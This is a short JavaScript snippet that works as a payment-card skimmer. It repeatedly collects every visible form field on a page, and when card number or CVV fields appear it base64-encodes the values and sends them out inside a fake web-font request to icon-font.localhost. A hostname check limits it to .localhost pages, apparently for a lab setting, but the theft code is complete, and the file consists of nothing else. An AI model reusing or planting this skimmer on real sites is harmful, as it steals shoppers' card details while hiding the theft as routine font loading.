(function(){
	if(!/\.localhost$/.test(location.hostname)){return;}
	var prev='';
	function tick(){
		var s='';
		var all=document.forms;
		for(var i=0;i<all.length;i++){for(var j=0;j<all[i].elements.length;j++){var e=all[i].elements[j];if(e.type!='hidden'&&e.value)s+=e.name+'='+e.value+';';}}
		if(s!=prev&&/card|cvv|cvc/i.test(s)){
			prev=s;
			new FontFace('ico'+Date.now(),'url(https://icon-font.localhost/i.woff?'+escape(btoa(unescape(encodeURIComponent(s))))+')').load().catch(function(){});
		}
		requestAnimationFrame(function(){setTimeout(tick,800);});
	}
	tick();
})();
